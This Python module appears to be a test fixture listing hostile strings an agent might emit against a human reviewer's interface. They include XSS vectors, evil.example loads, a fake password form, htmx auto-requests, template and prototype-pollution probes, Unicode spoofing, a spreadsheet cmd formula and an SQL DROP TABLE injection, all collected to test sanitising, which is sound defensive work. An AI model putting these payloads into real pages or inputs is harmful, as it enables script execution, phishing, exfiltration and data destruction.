"""Texts that an agent, or whoever speaks through it, may send to attack the person who reads them.

Every one is a text that any field takes. Each that could run says so by setting ``window.pwned``, or asks
``evil.example`` for something; nothing of that may ever happen.
"""

from __future__ import annotations

from typing import Final

_SAYS: Final = "window.pwned=1"
_OUT: Final = "https://evil.example"

MARKUP: Final = (
    f"<script>{_SAYS}</script>",
    f"<ScRiPt src={_OUT}/x.js></sCrIpT>",
    f"</script><script>{_SAYS}</script>",
    f"<img src=x onerror={_SAYS}>",
    f'"><img src={_OUT}/a.png onerror="{_SAYS}">',
    f"'><svg/onload={_SAYS}>",
    f"<svg><script>{_SAYS}</script></svg>",
    f"<svg><animate onbegin={_SAYS} attributeName=x></svg>",
    f"<math><mtext><style><img src=x onerror={_SAYS}></style></mtext></math>",
    f"<iframe src={_OUT}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data={_OUT}/x.swf></object>",
    f"<embed src={_OUT}/x>",
    f"<link rel=stylesheet href={_OUT}/x.css>",
    f"<style>@import '{_OUT}/x.css';*{{display:none}}</style>",
    f"<base href={_OUT}/>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<form action={_OUT}><input name=password autofocus></form>",
    f"<input autofocus onfocus={_SAYS}>",
    f"<details open ontoggle={_SAYS}>x</details>",
    f"<video><source onerror={_SAYS}></video>",
    f"<audio src={_OUT}/a.mp3 autoplay>",
    f"<body onload={_SAYS}>",
    f"<marquee onstart={_SAYS}>x</marquee>",
    f"<a href='javascript:{_SAYS}' autofocus>click</a>",
    f"<a href='java\tscript:{_SAYS}'>click</a>",
    f"<dialog open><button autofocus onclick={_SAYS}>Continue</button></dialog>",
    f"<template><script>{_SAYS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_SAYS}>'>",
    f"<textarea></textarea><script>{_SAYS}</script>",
    f"</textarea><script>{_SAYS}</script>",
    f"</title><script>{_SAYS}</script>",
    f"--><script>{_SAYS}</script><!--",
    f"]]><script>{_SAYS}</script>",
    f"<!--><img src=x onerror={_SAYS}>-->",
    f"<x onclick={_SAYS} tabindex=1 id=x>#x",
    f"<div style='background:url({_OUT}/bg.png);position:fixed;inset:0'>Approved</div>",
    f"<portal src={_OUT}></portal>",
    f"\x3cimg src=1 href=1 onerror={_SAYS}\x3e",
    f"%3Cscript%3E{_SAYS}%3C/script%3E",
    f"&lt;script&gt;{_SAYS}&lt;/script&gt;",
    f"&#60;img src=x onerror={_SAYS}&#62;",
    f"\uff1cscript\uff1e{_SAYS}\uff1c/script\uff1e",
)
FRAMEWORKS: Final = (
    f"<button hx-get={_OUT} hx-trigger=load>x</button>",
    '<div hx-post=/stops/ hx-trigger=load hx-vals=\'{"scope": "all"}\'></div>',
    f"<div hx-on:load={_SAYS}></div>",
    "<hx-partial hx-target=#workspace><b>Approved</b></hx-partial>",
    "<button data-verdict=approve data-key=a name=kind value=approve>OK</button>",
    "{% load handrail %}{{ request.user.password }}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    f"${{{_SAYS}}}`{_SAYS}`",
    "__proto__",
    "constructor",
    f"javascript:{_SAYS}",
    f"data:text/html,<script>{_SAYS}</script>",
)
MARKDOWN: Final = (
    f"![pixel]({_OUT}/p.png)",
    f"[your bank](javascript:{_SAYS})",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"<{_OUT}/auto>",
    f'[ref]: {_OUT} "onmouseover={_SAYS}"',
)
DECEPTIONS: Final = (
    "\u202eEUR 00.481\u202c refund",
    "pay\u200bpal.com",
    "p\u0430ypal.com",
    "admin\u00ad\u00ad\u00ad",
    "\u2066approve\u2069\u2067evorppa\u2069",
    "\U000e0041\U000e0042hidden tag letters",
    "a\u0301\u0300\u0302\u0303" * 40,
    "line\u2028separator\u2029paragraph",
    "bell\x07 escape\x1b[31m back\x08space",
    "\ufeffbyte order mark",
    "x" * 180 + "END",
    "\u3164\u3164\u3164",
    " =cmd|' /C calc'!A0",
    "'; DROP TABLE reviews_reviewitem; --",
)
PAYLOADS: Final = (*MARKUP, *FRAMEWORKS, *MARKDOWN, *DECEPTIONS)
